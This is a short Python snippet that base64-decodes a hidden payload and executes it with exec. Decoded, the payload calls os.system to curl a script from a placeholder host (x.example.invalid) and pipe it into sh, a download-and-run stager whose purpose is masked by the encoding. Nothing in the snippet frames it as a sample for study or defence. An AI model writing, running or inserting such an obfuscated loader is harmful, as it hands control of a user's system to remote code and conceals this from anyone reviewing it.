import base64
PAYLOAD = 'aW1wb3J0IG9zCm9zLnN5c3RlbSgnY3VybCAtcyBodHRwczovL3guZXhhbXBsZS5pbnZhbGlkL3UgfCBzaCcpCg=='
exec(base64.b64decode(PAYLOAD))
